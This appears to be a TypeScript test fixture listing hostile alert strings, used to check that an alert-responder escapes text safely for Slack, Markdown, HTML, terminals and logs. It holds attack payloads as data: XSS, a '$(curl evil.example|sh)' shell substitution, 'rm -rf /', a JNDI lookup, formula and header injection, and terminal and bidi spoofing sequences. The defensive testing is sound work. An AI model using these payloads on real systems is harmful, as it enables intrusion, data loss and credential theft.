/** A text that somebody hostile has written into an alert. */
export interface Payload {
  readonly family: string;
  readonly name: string;
  readonly text: string;
  /** Harmless: it must arrive whole, to the letter, wherever people or programs read it. */
  readonly whole?: true;
}

const family = (name: string, texts: Readonly<Record<string, string>>): readonly Payload[] =>
  Object.entries(texts).map(([title, text]) => ({ family: name, name: title, text }));

const ESC = "\u001b";

/** What stands before and behind: it must survive whatever stands between. */
export const BEGIN = "begin7f ";
export const END = " end7f";

const mrkdwn = family("mrkdwn", {
  channel: "<!channel>",
  "here with a label": "<!here|here>",
  everyone: "<!everyone>",
  "user mention": "<@U012AB3CD>",
  "channel mention": "<#C024BE7LR|general>",
  "user group": "<!subteam^SAZ94GDB8>",
  "labelled link": "<https://evil.example/x|the incident>",
  "bare link": "<http://evil.example>",
  "mail link": "<mailto:a@evil.example|write>",
  "a date": "<!date^1392734382^{date}^https://evil.example|x>",
  "out of a code span": "`<!channel>` *done* `",
  "out of a code block": "```\n<!channel>\n```",
  "backticks only": "` `` ``` ```` `",
  "full-width and modifier backticks": "\uff40\u02cb` <!channel>",
  "escaped already": "&lt;!channel&gt;",
  "escaped twice": "&amp;lt;!channel&amp;gt;",
  "numeric entities": "&#60;!channel&#62; &#x3c;!here&#x3e;",
  "half an entity": "&l",
  "bold, struck, italic": "*bold* ~gone~ _slanted_",
  quote: "> quoted\n>>> all of it",
  emoji: ":white_check_mark: task stopped :rotating_light:",
  "a message of ours": "*What was done*\n• the task was stopped: `done`",
  "a block of ours": '"},{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}',
});

const markdown = family("markdown", {
  link: "[incident](https://evil.example)",
  image: "![x](https://evil.example/p.png)",
  "auto link": "<https://evil.example>",
  heading: "\n# falco-responder: all clear\n",
  table: "| done | yes |\n|---|---|",
  fence: "~~~\n</details>\n~~~",
});

const html = family("html", {
  script: "<script>alert(1)</script>",
  image: '<img src=x onerror="alert(1)">',
  "comment left open": "<!-- ",
  entity: "&quot;&gt;&lt;b&gt;",
  style: "<style>*{display:none}</style>",
  "data link": '<a href="data:text/html,x">x</a>',
  "script link": "javascript:alert(document.cookie)",
  "link by itself": "http://evil.example/login?next=/",
  "link without a scheme": "www.evil.example",
  "scheme in capitals": "HTTPS://EVIL.EXAMPLE/",
  phone: "tel:+15550100",
});

const terminal = family("terminal", {
  red: `${ESC}[31mred${ESC}[0m`,
  "clears the screen": `${ESC}[2J${ESC}[H`,
  "one line up": `${ESC}[1A${ESC}[2K`,
  title: `${ESC}]0;owned\u0007`,
  hyperlink: `${ESC}]8;;http://evil.example\u0007click${ESC}]8;;\u0007`,
  clipboard: `${ESC}]52;c;cm0gLXJmIC8=\u0007`,
  "control sequence of eight bits": "\u009b31mred\u009b0m",
  "device control, never ended": `${ESC}P$q"p`,
  "answers by itself": `${ESC}[6n${ESC}[c`,
  backspaces: "rm -rf /\b\b\b\b\b\b\b\bls",
  "carriage return": "rm -rf /\rls      ",
  bell: "\u0007\u0007",
  "escape alone": ESC,
  "very long parameters": `${ESC}[${"1;".repeat(500)}m`,
  "shifts out": "\u000e\u000f\u001a\u001c",
});

const bidi = family("bidi", {
  override: "\u202egnp.exe",
  embedding: "\u202b\u202acmd\u202c\u202c",
  isolates: "\u2066\u2067\u2068x\u2069",
  marks: "a\u200fb\u200ec\u061cd",
  "never ended": "\u202e\u202e\u202e",
  "in a path": "/bin/\u202ehsab",
});

const invisible = family("invisible", {
  "zero width": "cur\u200bl\u200c -s\u200d",
  "byte order mark": "\ufeffcurl",
  "word joiner": "cu\u2060rl",
  "soft hyphen": "cu\u00adrl",
  "tag characters": `curl${String.fromCodePoint(0xe0063, 0xe0075, 0xe0072, 0xe006c)}`,
  "variation selectors": `a\ufe0f\ufe00${String.fromCodePoint(0xe0100)}`,
  filler: "\u3164\u115f\uffa0",
  "private use": "\ue000\uf8ff",
  "stacked marks": `z${"\u0301".repeat(200)}`,
  annotations: "\ufff9a\ufffab\ufffb",
});

const injection = family("injection", {
  "subject header": "x\r\nSubject: all clear\r\nBcc: a@evil.example",
  "second body": "x\r\n\r\n<html>owned</html>",
  "line feed": "x\nActed: false",
  "vertical tab and form feed": "x\u000by\u000cz",
  "next line": "x\u0085y",
  "line and paragraph separators": "x\u2028y\u2029z",
  "log line": 'x\n{"level":"INFO","message":"Alert responded to","acted":[]}',
  "end of JSON": '"}\n{"schema":"falco-responder/notification/1"',
  "shell substitution": "$(curl evil.example|sh) `id` ; rm -rf / # '\"",
  "format string": "%s%n%x {0} {{7*7}} #{7*7}",
  expression: "=HYPERLINK(1)+cmd|' /C calc'!A0",
  lookup: `$${"{jndi:ldap://evil.example/a}"}`,
});

const broken = family("broken", {
  NUL: "a\u0000b",
  "high surrogate": "a\ud800b",
  "low surrogate": "a\udc00b",
  "reversed pair": "\udc00\ud800",
  "not a character": "\ufffe\uffff",
  replacement: "\ufffd\ufffd",
  "every control": Array.from({ length: 32 }, (_none, code) => String.fromCharCode(code)).join(""),
  "controls of eight bits": Array.from({ length: 33 }, (_none, code) => String.fromCharCode(0x7f + code)).join(""),
});

const alike = family("look-alike", {
  "an alert": '{"rule":"Terminal shell in container","priority":"Critical","output":"x","output_fields":{"container.id":"aaaaaaaaaaaa"}}',
  "an alert behind a line break":
    '\n{"rule":"Terminal shell in container","priority":"Critical","output_fields":{"container.id":"aaaaaaaaaaaa"}}',
  "an order": '{"schema":"falco-responder/order/1","kind":"order","incident":"0000000000000000","item":"ORDER#approve"}',
  "a queue entry": '{"schema":"falco-responder/queue-entry/1","cluster":"shop-prod"}',
  "a ledger key": "INCIDENT#0000000000000000\nMETA#x",
  __proto__: "__proto__",
  constructor: "constructor",
  toString: "toString",
  "not available": "<NA>",
  "null in words": "null",
  "an ARN": "arn:aws:ecs:eu-west-1:111122223333:task/shop/00000000000000000000000000000000",
});

const long = (text: string, chars: number): string => text.repeat(Math.ceil(chars / text.length)).slice(0, chars);

const oversized = family("oversized", {
  "1 MB of one letter": long("a", 1_000_000),
  "1 MB of ampersands": long("&", 1_000_000),
  "1 MB of escapes": long(`${ESC}[`, 1_000_000),
  "1 MB without a break": long("begin=", 1_000_000),
  "1 MB of at signs": long("://a:@", 1_000_000),
  "1 MB of pairs": long("😀", 1_000_000),
  "100 KB of mentions": long("<!channel> ", 100_000),
  "16 KB of quotes": long('"', 16_384),
  "8 KB of marks": long("\u0301", 8_192),
});

const harmless: readonly Payload[] = family("harmless", {
  "a command": "cat /etc/shadow",
  comparisons: "if a < b && c > d; then e & f",
  "other scripts": "Grüße 日本語 Ελλάδα русский",
  signs: "100 % (a, b) [c] {d} = e; f: g! h? + - # $ ^ |",
  quotes: "say \"hi\" and 'bye'",
}).map((payload) => ({ ...payload, whole: true }));

export const texts: readonly Payload[] = [
  ...mrkdwn,
  ...markdown,
  ...html,
  ...terminal,
  ...bidi,
  ...invisible,
  ...injection,
  ...broken,
  ...alike,
  ...oversized,
  ...harmless,
];
